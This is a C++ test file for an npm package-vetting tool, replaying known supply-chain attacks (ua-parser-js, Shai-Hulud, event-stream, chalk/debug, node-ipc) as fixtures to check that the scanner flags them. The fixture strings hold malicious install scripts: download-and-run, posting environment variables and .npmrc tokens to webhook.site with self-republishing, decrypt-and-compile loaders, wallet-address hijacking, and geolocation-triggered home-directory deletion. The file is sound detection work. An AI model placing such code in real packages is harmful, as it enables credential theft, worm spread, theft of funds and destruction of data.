// Replays of what happened, with both sides together: what the registry said, and inert look-alikes of what the files
// did (every host is a reserved name, nothing here works). Each reaches warn or block for its own reasons; the honest
// version before it does not.
#include <algorithm>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "base/text.h"
#include "judges/vet/metadata/metadata_fixture.h"
#include "judges/vet/score.h"
#include "judges/vet/source/source.h"

namespace ward::vet {
namespace {

using test::Case;
using test::Files;
using test::packument;
using test::Said;

struct Seen {
    Score score;
    std::string signals;  // sorted: "M03 S03"
    bool has(std::string_view id) const { return signals.find(id) != std::string::npos; }
};

Seen judged(const Case& one) {
    std::vector<Sighting> all = one.read().sightings;
    for (Sighting& sighting : read_sources(*one.inputs.package).sightings) all.push_back(std::move(sighting));
    Seen seen;
    seen.score = score_of(all);
    std::vector<std::string> ids;
    for (const Term& term : seen.score.terms) ids.emplace_back(term.signal->id);
    std::ranges::sort(ids);
    seen.signals = join(ids, " ");
    return seen;
}

std::string manifest(std::string_view name, std::string_view version, std::string_view fields = {}) {
    return fmt::format(R"({{"name": "{}", "version": "{}", {}{}}})", name, version, test::repository,
                       fields.empty() ? "" : fmt::format(", {}", fields));
}

const std::string harmless = "'use strict';\nmodule.exports = function (a) { return a + 1; };\n";

// Two versions: an honest one, and what came next. `files` are of the second, package.json apart.
struct Pair {
    Case document;
    std::string name;
    std::string fields_before, fields_now;
    Files files;

    Seen before() {
        return judged(document.at("1.0.0").with({{"package.json", manifest(name, "1.0.0", fields_before)},
                                                 {"README.md", "words"},
                                                 {"index.js", harmless}}));
    }
    Seen now() {
        Files all{
            {"package.json", manifest(name, "1.0.1", fields_now)}, {"README.md", "words"}, {"index.js", harmless}};
        for (const auto& file : files) {
            std::erase_if(all, [&](const auto& one) { return one.first == file.first; });
            all.push_back(file);
        }
        document.with(all);
        return judged(document.at("1.0.1"));
    }
};

Pair pair_of(const std::string& name, const std::string& before, const std::string& now, Files files) {
    const auto fields = [](const std::string& more) { return test::repository + (more.empty() ? "" : ", " + more); };
    Pair pair;
    pair.document =
        Case(packument(name, {{.version = "0.9.0", .published = "2025-01-01T00:00:00Z", .fields = fields(before)},
                              {.version = "1.0.0", .published = "2025-03-01T00:00:00Z", .fields = fields(before)},
                              {.version = "1.0.1", .published = "2025-09-01T00:00:00Z", .fields = fields(now)}}));
    pair.name = name;
    pair.fields_before = before;
    pair.fields_now = now;
    pair.files = std::move(files);
    return pair;
}

// ua-parser-js, coa, rc in 2021: a preinstall script that fetches a program and runs it.
TEST(WholeIncidents, a_new_preinstall_that_downloads_and_runs) {
    Pair pair = pair_of(
        "ua-like", "", R"("scripts": {"preinstall": "node preinstall.js"})",
        {{"preinstall.js",
          "const { exec } = require('child_process');\n"
          "exec('curl http://192.0.2.7/jsextension -o jsextension && chmod +x jsextension && ./jsextension');\n"}});
    const Seen now = pair.now();
    EXPECT_TRUE(now.has("M03") && (now.has("S08") || now.has("S07"))) << now.signals;
    EXPECT_EQ(now.score.outcome, Outcome::block) << now.signals << now.score.reason;
    EXPECT_EQ(pair.before().score.outcome, Outcome::ok) << pair.before().signals;
}

// Shai-Hulud 2025: everything that is secret is posted, and other packages of the owner are published anew.
TEST(WholeIncidents, a_new_postinstall_that_steals_and_spreads) {
    Pair pair = pair_of("worm-like", "", R"("scripts": {"postinstall": "node bundle.js"})",
                        {{"bundle.js",
                          "const https = require('https');\nconst fs = require('fs');\nconst os = require('os');\n"
                          "const { execSync } = require('child_process');\n"
                          "const found = { env: process.env, host: os.hostname(), npm: fs.readFileSync(os.homedir() + "
                          "'/.npmrc', 'utf8') };\n"
                          "const body = JSON.stringify(found);\n"
                          "const request = https.request('https://webhook.site/00000000-0000-0000-0000-000000000000', "
                          "{ method: 'POST' });\n"
                          "request.write(body);\nrequest.end();\n"
                          "fs.writeFileSync('package.json', JSON.stringify({ version: '1.0.2' }));\n"
                          "execSync('npm publish');\n"}});
    const Seen now = pair.now();
    EXPECT_TRUE(now.has("M03") && now.has("S03")) << now.signals;
    EXPECT_TRUE(now.has("S09")) << now.signals;
    EXPECT_EQ(now.score.outcome, Outcome::block) << now.signals;
    EXPECT_EQ(pair.before().score.outcome, Outcome::ok) << pair.before().signals;
}

// Shai-Hulud again: a preinstall that fetches another runtime and runs a huge one-line file with it.
TEST(WholeIncidents, a_new_preinstall_that_brings_another_runtime) {
    Pair pair = pair_of("bun-like", "", R"("scripts": {"preinstall": "node setup_bun.js"})",
                        {{"setup_bun.js",
                          "const { execSync, spawn } = require('child_process');\n"
                          "execSync('curl -fsSL https://bun.sh/install | bash');\n"
                          "spawn('bun', ['run', 'bun_environment.js']);\n"},
                         {"bun_environment.js", "//" + std::string(1u << 20, 'x')}});
    const Seen now = pair.now();
    EXPECT_TRUE(now.has("M03") && now.has("S08")) << now.signals;
    EXPECT_EQ(now.score.outcome, Outcome::block) << now.signals;
}

// event-stream 2018: the new dependency itself, which decrypts what looks like test data and compiles it.
TEST(WholeIncidents, a_dependency_that_compiles_decrypted_data) {
    Pair pair = pair_of("flat-like", "", R"("main": "index.js")",
                        {{"index.js",
                          "const crypto = require('crypto');\nconst data = require('./test/data');\n"
                          "const key = process.env.npm_package_description;\n"
                          "const cipher = crypto.createDecipher('aes256', key);\n"
                          "let text = cipher.update(data[0], 'hex', 'utf8');\ntext += cipher.final('utf8');\n"
                          "const made = new module.constructor();\nmade._compile(text, '');\n"},
                         {"test/data.js", "module.exports = ['" + std::string(2'000, 'a') + "'];\n"}});
    const Seen now = pair.now();
    EXPECT_TRUE(now.has("S04")) << now.signals;
    EXPECT_GE(now.score.outcome, Outcome::warn) << now.signals;
    EXPECT_EQ(pair.before().score.outcome, Outcome::ok) << pair.before().signals;
}

// chalk and debug 2025: no script and no new dependency; a hook on the wallet in a file that everybody loads.
TEST(WholeIncidents, a_hook_on_wallets_in_the_main_file) {
    Pair pair = pair_of(
        "colour-like", "", R"("main": "index.js")",
        {{"index.js",
          harmless +
              "if (typeof window !== 'undefined' && typeof window.ethereum !== 'undefined') {\n"
              "  const request = window.ethereum.request;\n"
              "  window.ethereum.request = function (args) { args.params[0].to = '0x' + 'b'.repeat(40); return "
              "request(args); };\n"
              "  const send = window.fetch;\n"
              "  window.fetch = async function (...all) { const r = await send(...all); const t = await r.text(); "
              "return new Response(t.replace(/0x[a-fA-F0-9]{40}/g, '0x0'), r); };\n}\n"}});
    const Seen now = pair.now();
    EXPECT_TRUE(now.has("S10")) << now.signals;
    EXPECT_GE(now.score.outcome, Outcome::warn) << now.signals;
    EXPECT_EQ(pair.before().score.outcome, Outcome::ok);
}

// node-ipc 2022: files are overwritten by where the machine stands.
TEST(WholeIncidents, files_destroyed_by_country) {
    Pair pair =
        pair_of("ipc-like", "", R"("main": "index.js")",
                {{"index.js",
                  "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\n"
                  "https.get('https://api.ipgeolocation.example/ipgeo', (answer) => {\n"
                  "  answer.on('data', (data) => {\n    const country = JSON.parse(data).country_name.toLowerCase();\n"
                  "    if (country.includes('somewhere')) fs.rmSync(os.homedir(), { recursive: true, force: true });\n "
                  " });\n});\n"}});
    const Seen now = pair.now();
    EXPECT_TRUE(now.has("S11")) << now.signals;
    EXPECT_GE(now.score.outcome, Outcome::warn) << now.signals;
}

// The honest neighbours of these: what looks alike and is no attack stays below a warning.
TEST(WholeIncidents, honest_packages_of_the_same_build_are_not_warned_of) {
    Pair native = pair_of("native-like", R"("scripts": {"install": "node-gyp rebuild"})",
                          R"("scripts": {"install": "node-gyp rebuild"})", {{"binding.gyp", "{}"}});
    EXPECT_LT(native.now().score.outcome, Outcome::warn) << native.now().signals;
    Pair client = pair_of("client-like", "", R"("main": "index.js")",
                          {{"index.js",
                            "const https = require('https');\n"
                            "exports.ask = (path, done) => https.get({ host: 'api.service.example', path, port: "
                            "process.env.PORT || 443,\n"
                            "  headers: { Authorization: 'Bearer ' + process.env.SERVICE_TOKEN } }, done);\n"}});
    EXPECT_LT(client.now().score.outcome, Outcome::warn) << client.now().signals;
}

}  // namespace
}  // namespace ward::vet
